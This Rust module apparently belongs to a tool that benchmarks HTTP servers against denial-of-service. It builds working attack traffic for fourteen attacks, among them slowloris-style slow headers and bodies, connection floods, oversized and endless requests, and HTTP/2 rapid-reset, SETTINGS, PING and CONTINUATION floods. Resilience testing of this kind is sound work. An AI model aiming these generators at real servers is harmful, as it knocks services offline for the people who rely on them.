//! What they do, and how fast.

use std::time::Duration;

use crate::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RESET, SETTINGS, block, frame,
    hello, request, stream,
};
use crate::press::Target;

/// Something that a client does to harm.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Attack {
    /// Connections on which nothing is ever sent.
    Unused,
    /// More connections than one client may have.
    Crowd,
    /// Heads that come field by field and never end.
    SlowHeads,
    /// Bodies that come byte by byte.
    SlowBodies,
    /// Answers of a gigabyte that nobody reads.
    Unread,
    /// Heads of more fields than are allowed.
    ManyFields,
    /// Heads of more bytes than are allowed.
    LargeHeads,
    /// Bodies without end.
    EndlessBodies,
    /// Streams that are reset as soon as they are opened.
    RapidReset,
    /// Settings, each of which asks for an acknowledgement.
    Settings,
    /// Pings, each of which asks for an answer.
    Pings,
    /// A head that goes on in frame after frame.
    Continuation,
    /// Frames of a body with nothing in them.
    EmptyData,
    /// More requests than may wait, for a program that takes half a minute.
    SlowSandbox,
}

/// One attack in bytes and paces.
pub(crate) struct Form {
    /// Connections that are open at once; one that ends is replaced.
    pub(crate) connections: usize,
    /// New connections per second, at most.
    pub(crate) opens: u32,
    /// Sent at the begin of each connection.
    pub(crate) opening: Vec<u8>,
    /// Sent after each pause, counted from zero; nothing if absent.
    pub(crate) more: Option<Piece>,
    /// The time between two pieces on one connection.
    pub(crate) pause: Duration,
    /// Whether what comes back is read.
    pub(crate) is_read: bool,
}

type Piece = Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>;

/// The pause of those who try to be as slow as is borne.
const SLOW: Duration = Duration::from_secs(1);
/// The pause of those who try to be fast.
const FAST: Duration = Duration::from_millis(10);
/// Frames in one piece: with ten connections, 20 000 frames per second.
const FRAMES: usize = 20;
/// Bytes of a chunk, of which an endless body sends 50 per second.
const CHUNK: usize = 16 * 1024;
/// More fields than servers allow, which is a hundred almost everywhere.
const FIELDS: usize = 200;
/// More bytes than servers allow in a head.
const HEAD: usize = 256 * 1024;
/// Requests on one connection to a slow program; fewer than servers allow streams.
const WAITING: u32 = 100;

impl Attack {
    /// Every one.
    pub const ALL: [Self; 14] = [
        Self::Unused,
        Self::Crowd,
        Self::SlowHeads,
        Self::SlowBodies,
        Self::Unread,
        Self::ManyFields,
        Self::LargeHeads,
        Self::EndlessBodies,
        Self::RapidReset,
        Self::Settings,
        Self::Pings,
        Self::Continuation,
        Self::EmptyData,
        Self::SlowSandbox,
    ];

    /// What it is, with its pace, for tables.
    #[must_use]
    pub const fn title(self) -> &'static str {
        match self {
            Self::Unused => "1 000 connections never used",
            Self::Crowd => "12 000 connections of one client",
            Self::SlowHeads => "500 heads, a field a second each",
            Self::SlowBodies => "500 bodies, a byte a second each",
            Self::Unread => "50 answers of a gigabyte, unread",
            Self::ManyFields => "heads of 200 fields, 100 a second",
            Self::LargeHeads => "heads of 256 KiB, 40 a second",
            Self::EndlessBodies => "10 endless bodies, 8 MB/s together",
            Self::RapidReset => "rapid reset, 50 connections a second",
            Self::Settings => "settings, 20 000 a second",
            Self::Pings => "pings, 20 000 a second",
            Self::Continuation => "endless heads, 50 connections a second",
            Self::EmptyData => "empty data frames, 50 connections a second",
            Self::SlowSandbox => "3 000 requests for a slow program",
        }
    }

    pub(crate) fn form(self, target: &Target) -> Form {
        match self {
            Self::Unused | Self::Crowd | Self::SlowHeads | Self::SlowBodies | Self::Unread => {
                self.slow(target)
            }
            Self::ManyFields | Self::LargeHeads | Self::EndlessBodies => self.large(target),
            _ => self.frames(target),
        }
    }

    /// Those who hold what they got.
    fn slow(self, target: &Target) -> Form {
        let head = target.head("GET", "/");
        let held = Form {
            connections: 500,
            opens: 250,
            opening: Vec::new(),
            more: None,
            pause: SLOW,
            is_read: true,
        };
        match self {
            Self::Unused => Form { connections: 1_000, opens: 500, ..held },
            Self::Crowd => Form { connections: 12_000, opens: 3_000, ..held },
            Self::SlowHeads => {
                Form { opening: head, more: same(b"X-Field: value\r\n".to_vec()), ..held }
            }
            Self::SlowBodies => Form {
                opening: target.with("POST", "/echo", "Content-Length: 1000000\r\n\r\n"),
                more: same(b"x".to_vec()),
                ..held
            },
            _ => Form {
                connections: 50,
                opens: 50,
                opening: target.with("GET", "/bytes/1000000000", "\r\n"),
                // Only who writes notices that the other end has gone.
                more: same(b"G".to_vec()),
                is_read: false,
                ..held
            },
        }
    }

    /// Those who send more than is allowed.
    fn large(self, target: &Target) -> Form {
        let once = Form {
            connections: 20,
            opens: 100,
            opening: Vec::new(),
            more: None,
            pause: SLOW,
            is_read: true,
        };
        let fields = |count: usize, size: usize| {
            let field = format!("X-Field: {}\r\n", "v".repeat(size));
            target.with("GET", "/", &(field.repeat(count) + "\r\n"))
        };
        match self {
            Self::ManyFields => Form { opening: fields(FIELDS, 1), ..once },
            Self::LargeHeads => Form { opens: 40, opening: fields(10, HEAD / 10), ..once },
            _ => Form {
                connections: 10,
                opens: 20,
                opening: target.with("POST", "/echo", "Transfer-Encoding: chunked\r\n\r\n"),
                more: same(format!("{CHUNK:x}\r\n{}\r\n", "x".repeat(CHUNK)).into_bytes()),
                pause: Duration::from_millis(20),
                ..once
            },
        }
    }

    /// Those who use HTTP/2 as it was not meant.
    fn frames(self, target: &Target) -> Form {
        let head = request("GET", "/", &target.host);
        let post = request("POST", "/echo", &target.host);
        let flood = Form {
            connections: 10,
            opens: 50,
            opening: hello(),
            more: None,
            pause: FAST,
            is_read: true,
        };
        let after = |first: Vec<u8>| [hello(), first].concat();
        let many = |one: Vec<u8>| same(one.repeat(FRAMES));
        match self {
            Self::RapidReset => Form { more: Some(Box::new(move |n| resets(&head, n))), ..flood },
            Self::Settings => Form { more: many(frame(SETTINGS, 0, 0, &[])), ..flood },
            Self::Pings => Form { more: many(frame(PING, 0, 0, &[7; 8])), ..flood },
            Self::Continuation => Form {
                opening: after(frame(HEADERS, 0, 1, &post)),
                more: many(frame(CONTINUATION, 0, 1, &block(&[("x", "y")]).repeat(200))),
                ..flood
            },
            Self::EmptyData => Form {
                opening: after(frame(HEADERS, END_HEADERS, 1, &post)),
                more: many(frame(DATA, 0, 1, &[])),
                ..flood
            },
            _ => {
                let slow = request("GET", "/slow?ms=30000", &target.slow);
                let flags = END_HEADERS | END_STREAM;
                let ask = |index| frame(HEADERS, flags, stream(index), &slow);
                Form {
                    connections: 30,
                    opening: after((0..WAITING).flat_map(ask).collect()),
                    ..flood
                }
            }
        }
    }
}

impl Target {
    fn head(&self, method: &str, path: &str) -> Vec<u8> {
        self.with(method, path, "")
    }

    /// A request with these lines after its host.
    fn with(&self, method: &str, path: &str, lines: &str) -> Vec<u8> {
        format!("{method} {path} HTTP/1.1\r\nHost: {}\r\n{lines}", self.host).into_bytes()
    }
}

#[expect(clippy::unnecessary_wraps, reason = "it is one of the values of an optional field")]
fn same(piece: Vec<u8>) -> Option<Piece> {
    Some(Box::new(move |_| piece.clone()))
}

/// The next streams, each opened and reset at once.
fn resets(head: &[u8], piece: u32) -> Vec<u8> {
    const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
    let count = u32::try_from(FRAMES).unwrap_or_default();
    let streams = (piece * count..).take(FRAMES).map(stream);
    let opened_and_reset = streams.flat_map(|id| {
        [frame(HEADERS, END_HEADERS | END_STREAM, id, head), frame(RESET, 0, id, &CANCEL)].concat()
    });
    opened_and_reset.collect()
}
